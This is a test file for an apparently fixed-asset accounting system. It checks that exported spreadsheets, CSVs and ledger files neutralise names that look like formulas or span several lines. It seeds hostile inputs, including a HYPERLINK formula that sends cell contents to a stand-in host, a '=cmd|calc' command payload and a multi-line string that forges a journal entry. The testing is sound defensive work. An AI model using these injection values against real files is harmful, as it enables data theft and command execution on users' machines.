import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { JOURNAL_FORMATS } from '#shared/contract/journalFiles.ts';
import { capitalized, closeMonths, inService } from '../support/assets.ts';
import { memoryHost, type TestBook } from '../support/book.ts';
import { unzip } from '../reports/unzip.ts';
import { exported } from '../wholeBook/support.ts';

const FORMULA = '=HYPERLINK("http://x?"&A1)';
const LINES = 'Press\n2026-01-31 (X) false\n    assets:cash  SAR 1';
const STARTS = /^[=+\-@\t\r\n＝＋－＠]/;

/** Every name that a person gives begins like a formula, or goes over more than one line. */
function hostileBook(): TestBook {
  const book = memoryHost({ company: { name: '=1+1', nameAr: '@جمع' } });
  book.call('locations.create', { code: 'L-1', name: '=A1', nameAr: '+ب' });
  book.call('custodians.create', { code: 'E-1', name: '@SUM(A1)', nameAr: '\u200F=ج' });
  book.call('costCenters.create', { code: 'C-1', name: '-2+3', nameAr: LINES });
  const { id } = book.call('assetCategories.get', { categoryCode: 'MACH' });
  book.call('assetCategories.update', { categoryId: id, name: '=cmd|calc', nameAr: '+حاسبة', revaluationAllowed: true, surplusInUse: true });
  const bought = { categoryCode: 'MACH', acquisitionDate: '2026-01-02', locationId: 'L-1', custodianId: 'E-1', costCenterId: 'C-1', serialNumber: '=S1', notes: LINES, insurance: { insurer: '=I', policy: '-P' } };
  const { id: press } = inService(book, { ...bought, name: FORMULA, nameAr: LINES });
  inService(book, { ...bought, name: LINES, nameAr: '@ب' });
  const { id: project } = capitalized(book, { name: '-Hall', categoryCode: 'CIP', acquisitionDate: '2026-01-02', cost: '5000.00' });
  book.call('assets.addConstructionCost', { assetId: project, date: '2026-01-05', amount: '100.00', document: '=D', memo: '@m' });
  book.call('valueUpdates.create', { assetId: press, updateType: 'REVALUATION_UP', date: '2026-01-03', amount: '500.00', valuer: '=V', reportReference: '+R', memo: LINES });
  book.call('assets.split', { assetId: press, date: '2026-01-04', parts: [{ percent: '40', name: '=part' }] });
  closeMonths(book, '2026-01');
  return book;
}

const book = hostileBook();
const sheetsOf = (bytes: Uint8Array): string[] => [...unzip(bytes)].filter(([name]) => name.startsWith('xl/worksheets/')).map(([, xml]) => xml);

/** Texts that a spreadsheet would take for a formula, and formulas that are not our own sums. */
function harmful(bytes: Uint8Array): string[] {
  return sheetsOf(bytes).flatMap((xml) => [
    ...[...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map(([, text]) => text ?? '').filter((text) => STARTS.test(text)),
    ...[...xml.matchAll(/<f>([^<]*)<\/f>/g)].map(([, formula]) => formula ?? '').filter((formula) => !/^(SUBTOTAL\(9,|SUM\(|[A-Z]+\d+[+-]|-?[A-Z]+\d+)/.test(formula)),
  ]);
}
const cellsOf = (bytes: Uint8Array): string[] => (parse(Buffer.from(bytes), { bom: true, relax_column_count: true }) as string[][]).flat().filter((cell) => !/^-?[\d.]+$/.test(cell));

describe('what people call things is text in every file', () => {
  test.each(book.call('reports.list').map(({ id }) => id))('the report %s', (report) => {
    const { parameters } = book.call('reports.list').find(({ id }) => id === report) ?? { parameters: [] };
    const given = Object.fromEntries(parameters.flatMap(({ id, type, required }): [string, string][] => {
      if (type === 'asset' && required) return [[id, 'asset-1']];
      if (type === 'period' && required) return [[id, '2026-01']];
      return type === 'date' && required ? [[id, '2026-01-31']] : [];
    }));
    for (const language of ['en', 'ar', 'both'] as const) {
      const of = (format: 'csv' | 'xlsx') => book.host.renderReport({ report, parameters: given, language, format });
      const [sheet, list] = [of('xlsx'), of('csv')];
      if (sheet.ok && sheet.value.kind === 'bytes') expect(harmful(sheet.value.bytes)).toEqual([]);
      if (list.ok && list.value.kind === 'bytes') expect(cellsOf(list.value.bytes).filter((cell) => STARTS.test(cell))).toEqual([]);
      if (!sheet.ok) expect(sheet.error.code).not.toBe('FAULT');
    }
  });

  test('the close pack and the template for imports', () => {
    for (const language of ['en', 'ar', 'both'] as const) {
      const pack = book.host.makePack({ period: '2026-01', form: 'xlsx', register: true, language });
      expect(pack.ok && pack.value.workbook ? harmful(pack.value.workbook) : ['no workbook']).toEqual([]);
    }
    const template = book.host.importTemplate({ language: 'en' });
    expect(template.ok ? harmful(template.value.bytes) : ['no template']).toEqual([]);
  });

  test('files of journals: of a text over several lines no transaction is made', () => {
    for (const format of JOURNAL_FORMATS) {
      const made = book.call('journals.export', { format, from: '2026-01-01', to: '2026-01-31', detail: 'detail', includeExported: true });
      const file = book.host.readJournalExport({ exportId: made.exportId });
      const bytes = file.ok ? file.value.bytes : new Uint8Array();
      if (format === 'xlsx') expect(harmful(bytes), format).toEqual([]);
      else if (format === 'hledger' || format === 'beancount') {
        const begun = Buffer.from(bytes).toString('utf8').split('\n').filter((line) => /^\d{4}-/.test(line));
        expect(begun.length, format).toBe(made.journals);
        expect(Buffer.from(bytes).toString('utf8')).not.toMatch(/^ *assets:cash/m);
      } else if (format !== 'quickbooks_desktop') expect(cellsOf(bytes).filter((cell) => STARTS.test(cell)), format).toEqual([]);
      else expect(Buffer.from(bytes).toString('latin1').split(/\r\n|\t/).filter((cell) => STARTS.test(cell) && !/^-?[\d.]+$/.test(cell)), format).toEqual([]);
    }
  });

  test('the whole book as tables', () => {
    const { folder } = exported(book.host);
    for (const file of readdirSync(join(folder, 'tables')).filter((name) => name.endsWith('.csv'))) {
      expect(cellsOf(readFileSync(join(folder, 'tables', file))).filter((cell) => STARTS.test(cell)), file).toEqual([]);
    }
    const ledger = readFileSync(join(folder, 'ledger.journal'), 'utf8');
    expect(ledger).not.toMatch(/^ *assets:cash/m);
    expect(ledger).not.toMatch(/^2026-01-31 \(X\)/m);
  });
});
